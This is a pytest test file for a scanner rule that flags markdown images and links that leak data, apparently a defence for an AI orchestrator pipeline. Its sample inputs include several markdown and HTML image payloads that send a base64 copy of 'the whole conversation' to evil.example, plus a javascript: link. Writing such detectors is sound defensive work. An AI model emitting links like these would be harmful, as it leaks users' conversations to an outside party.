"""Links and images that carry data away, and ordinary ones."""

import pytest

from services.orchestrator.pipeline.scanning.scanner import Source
from tests.fixtures.scanning import found, hits

NAME = "leaking_links"
DATA = "dGhlIHdob2xlIGNvbnZlcnNhdGlvbiBzbyBmYXI5Ng"


class TestLeakingLinks:
    @pytest.mark.parametrize(
        "text",
        [
            f"![x](https://evil.example/p?d={DATA})",
            f"![](//evil.example/p?d={DATA})",
            f'<img alt="a" src="https://evil.example/{DATA}{DATA}">',
            "![x](https://evil.example/?q={everything so far})",
            f"[more](https://evil.example/?c={DATA}{DATA})",
            "[x](javascript:alert(1))",
            "![x](https://[broken/?a)",
        ],
    )
    def test_found(self, text: str) -> None:
        assert len(found(NAME, f"See {text} there")) == 1

    def test_an_image_is_worst_in_the_result(self) -> None:
        text = f"![x](https://evil.example/p?d={DATA})"
        assert hits(NAME, text)[0].severity == "high"
        assert hits(NAME, text, source=Source.TOOL)[0].severity == "medium"

    @pytest.mark.parametrize(
        "text",
        [
            "![build](https://img.example.com/badge/a-b-green?style=flat&logo=python)",
            "[docs](https://docs.example.com/guide/getting-started?lang=en#install)",
            '<img src="/logo.png">',
            "![chart](chart.png)",
            f"![x](data:image/png;base64,{DATA})",
        ],
    )
    def test_none(self, text: str) -> None:
        assert found(NAME, text) == []
